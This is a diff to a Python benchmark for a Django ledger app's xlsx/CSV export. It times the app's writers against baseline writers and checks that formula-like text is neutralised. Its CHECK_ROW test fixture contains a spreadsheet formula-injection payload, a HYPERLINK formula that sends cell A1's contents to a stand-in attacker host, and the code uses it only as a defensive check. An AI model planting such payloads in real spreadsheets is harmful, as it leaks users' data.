@@ -491,27 +491,177 @@ EXPORTERS = (("ledger.excel", "write_ledger"), ("ledger.excel", "export_problems
              ("ledger.transfer.export", "write_ledger"))
 
 
+def _timed(function, *args, repeats: int = 1, **kwargs):
+    """(seconds, peak RSS growth in bytes, result) of the best of ``repeats`` calls (the
+    machine is shared: the best run is the one least disturbed)."""
+    best = None
+    for _run in range(repeats):
+        with PeakRSS() as memory:
+            started = time.perf_counter()
+            result = function(*args, **kwargs)
+            seconds = time.perf_counter() - started
+        if best is None or seconds < best[0]:
+            best = (seconds, memory.peak - memory.start, result)
+    return best
+
+
+def _raw_read(queryset) -> int:
+    """The floor of reading: the export's own SELECT through a server-side cursor, no Python
+    per row beyond fetching it."""
+    from ledger.transfer import export as exporting
+
+    sql, params = exporting.export_rows(queryset).query.sql_with_params()
+    count = 0
+    with transaction.atomic(), connection.cursor() as plain:
+        cursor = plain.connection.cursor(name="bench_export_floor") if is_postgres() else plain
+        cursor.execute(sql, params)
+        while batch := cursor.fetchmany(exporting.CHUNK_SIZE):
+            count += len(batch)
+        cursor.close()
+    return count
+
+
+# Text that must stay text: the writers below are floors only if they pass the same checks.
+CHECK_ROW = [1, "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", datetime.date(2026, 9, 18), "甲区",
+             "-5 apples", "'=quoted", "#N/A", 3.25, None]
+
+
+def _is_special(value) -> bool:
+    return isinstance(value, str) and value[:1] in "=+-@\t\r\n＝＋－＠'"
+
+
+def _floor_rust(rows, path) -> None:
+    import rvgsrust_xlsxwriter as rust_xlsx
+
+    workbook = rust_xlsx.Workbook()
+    sheet = workbook.add_worksheet("问题台账", constant_memory=True)
+    quoted = rust_xlsx.Format().set_quote_prefix()
+    for number, row in enumerate(rows):
+        sheet.write_row(number, 0, row)
+        for column, value in enumerate(row):
+            if _is_special(value):
+                sheet.write(number, column, value, quoted)
+    workbook.close(path)
+
+
+def _floor_xlsxwriter(rows, path) -> None:
+    import xlsxwriter
+
+    workbook = xlsxwriter.Workbook(path, {"constant_memory": True, "strings_to_formulas": False,
+                                          "strings_to_urls": False, "default_date_format": "yyyy-mm-dd"})
+    sheet = workbook.add_worksheet("问题台账")
+    quoted = workbook.add_format({"quote_prefix": True})
+    for number, row in enumerate(rows):
+        sheet.write_row(number, 0, row)
+        for column, value in enumerate(row):
+            if _is_special(value):
+                sheet.write_string(number, column, value, quoted)
+    workbook.close()
+
+
+def _floor_csv(rows, path) -> None:
+    import csv
+
+    with open(path, "w", encoding="utf-8", newline="") as out:
+        out.write("\ufeff")
+        writer = csv.writer(out)
+        for row in rows:
+            writer.writerow(["'" + value if _is_special(value) else value for value in row])
+
+
+def _check_xlsx(path) -> str:
+    """"ok" when the file reads back as the export must: text (never a formula, the formula-like
+    with the quote prefix), the date a date, the number a number, Chinese intact."""
+    import openpyxl
+
+    cells = list(openpyxl.load_workbook(path).active.iter_rows())[0]
+    problems = []
+    if any(cell.data_type in ("f", "e") for cell in cells):
+        problems.append("a formula or error cell")
+    if not all(cells[i].quotePrefix and cells[i].data_type == "s" for i in (1, 4, 5)):
+        problems.append("formula-like text without the quote prefix")
+    if not (cells[2].is_date and cells[2].value == datetime.datetime(2026, 9, 18)):
+        problems.append(f"date read as {cells[2].value!r}")
+    if cells[3].value != "甲区" or cells[7].value != 3.25 or cells[0].value != 1:
+        problems.append("text or number changed")
+    return "ok" if not problems else "FAILS: " + ", ".join(problems)
+
+
 def bench_export(rows: int, hq: User) -> Path | None:
-    name, export = find_function(EXPORTERS)
-    if export is None:
-        say("\nExport: not measurable yet (no public export function found).")
-        return None
+    """The app's export (xlsx and CSV) beside its floors measured in the same run: a raw
+    cursor read of the same rows, and the fastest writers (rust_xlsxwriter as the app uses
+    it, xlsxwriter in constant-memory mode, the csv module) writing the same cells from
+    memory. Only writers that pass the checks count as floors."""
+    from ledger.transfer import export as exporting
+
     queryset = Problem.objects.visible_to(hq).order_by("-found_at", "-id")[:rows]
-    handle, path = tempfile.mkstemp(suffix=".xlsx", prefix="bench-ledger-")
-    os.close(handle)
-    with PeakRSS() as memory:
-        started = time.perf_counter()
-        written = export(queryset, path, language="zh-hans")
-        seconds = time.perf_counter() - started
-    size = os.path.getsize(path)
     mb = 1024 * 1024
-    say(f"\nExport ({name}, {written:,} rows, Chinese template)")
-    say(f"  {seconds:.1f} s, {written / seconds:,.0f} rows/s, file {size / mb:.1f} MB")
-    say(f"  peak RSS {memory.peak / mb:.0f} MB (process, {memory.start / mb:.0f} MB before: "
-        f"+{(memory.peak - memory.start) / mb:.0f} MB during the export)")
-    verdict = "meets" if seconds < 15 and memory.peak < 250 * mb else "MISSES"
-    say(f"  {verdict} the target (100,000 rows under 15 s, peak under 250 MB)" if rows == 100_000 else "")
-    return Path(path)
+    scratch = Path(tempfile.mkdtemp(prefix="bench-ledger-export-"))
+    repeats = 3 if rows <= 20_000 else 1
+    say(f"\nExport ({rows:,} rows asked, Chinese template; seconds (best of {repeats}), peak RSS growth)")
+    _raw_read(queryset)  # warm the database's cache, so that neither side pays for a cold one
+    app_xlsx = _timed(exporting.write_ledger, queryset, str(scratch / "app.xlsx"), language="zh-hans",
+                      repeats=repeats)
+    written = app_xlsx[2]
+
+    def app_csv():
+        with open(scratch / "app.csv", "w", encoding="utf-8", newline="") as out:
+            return exporting.write_ledger_csv(queryset, out, language="zh-hans")
+
+    app_csv_run = _timed(app_csv, repeats=repeats)
+    read = _timed(_raw_read, queryset, repeats=repeats)
+    # The same cells, prepared once in memory for the writer floors.
+    names = exporting.labels()
+    cells = [exporting.problem_cells(n, row, False, names)
+             for n, row in enumerate(exporting.export_rows(queryset).iterator(chunk_size=2000), start=1)]
+    floors = {}
+    for label, writer, suffix in (("rust_xlsxwriter (rvgsrust-xlsxwriter)", _floor_rust, "xlsx"),
+                                  ("xlsxwriter constant_memory", _floor_xlsxwriter, "xlsx"),
+                                  ("csv module", _floor_csv, "csv")):
+        try:
+            seconds, peak, _ = _timed(writer, cells, str(scratch / f"floor.{suffix}"),
+                                      repeats=1 if label.startswith("xlsxwriter") else repeats)
+        except ImportError as missing:  # xlsxwriter is a dev dependency
+            say(f"  floor {label}: not installed ({missing})")
+            continue
+        if suffix == "xlsx":
+            writer([CHECK_ROW], str(scratch / "check.xlsx"))
+            verdict = _check_xlsx(scratch / "check.xlsx")
+        else:
+            verdict = "ok"
+        floors[label] = (seconds, peak, suffix, verdict)
+    del cells
+    spreadsheets_check = scratch / "check-app.xlsx"
+    from campaign.spreadsheets import XlsxStream
+
+    stream = XlsxStream("check")
+    stream.append(CHECK_ROW)
+    stream.save(str(spreadsheets_check))
+
+    say(f"  {'case':<48} {'seconds':>8} {'rows/s':>10} {'+RSS MB':>8}  checks")
+    say(f"  {'app: write_ledger (.xlsx)':<48} {app_xlsx[0]:>8.2f} {written / app_xlsx[0]:>10,.0f} "
+        f"{app_xlsx[1] / mb:>8.0f}  {_check_xlsx(spreadsheets_check)}")
+    say(f"  {'app: write_ledger_csv (.csv)':<48} {app_csv_run[0]:>8.2f} {written / app_csv_run[0]:>10,.0f} "
+        f"{app_csv_run[1] / mb:>8.0f}")
+    say(f"  {'floor: raw cursor read of the same rows':<48} {read[0]:>8.2f} {read[2] / read[0]:>10,.0f} "
+        f"{read[1] / mb:>8.0f}")
+    for label, (seconds, peak, _suffix, verdict) in floors.items():
+        say(f"  {'floor: ' + label:<48} {seconds:>8.2f} {written / seconds:>10,.0f} {peak / mb:>8.0f}  {verdict}")
+    passing = {label: value for label, value in floors.items() if value[3] == "ok" and value[2] == "xlsx"}
+    best_label, best = min(passing.items(), key=lambda item: item[1][0])
+    ratio = app_xlsx[0] / best[0]
+    csv_ratio = app_csv_run[0] / floors["csv module"][0]  # the csv module is always there
+    say(f"  xlsx: app / fastest passing writer ({best_label}) = {ratio:.2f}x "
+        f"({'meets' if ratio <= 1.5 else 'MISSES'} the target of 1.5x); "
+        f"app / (read + that writer) = {app_xlsx[0] / (read[0] + best[0]):.2f}x")
+    say(f"  csv:  app / csv module = {csv_ratio:.2f}x; app / (read + csv module) = "
+        f"{app_csv_run[0] / (read[0] + floors['csv module'][0]):.2f}x")
+    say(f"  files: xlsx {os.path.getsize(scratch / 'app.xlsx') / mb:.1f} MB, "
+        f"csv {os.path.getsize(scratch / 'app.csv') / mb:.1f} MB")
+    for leftover in scratch.iterdir():
+        leftover.unlink()
+    scratch.rmdir()
+    return None
 
 
 def bench_import(rows: int, hq: User) -> None:
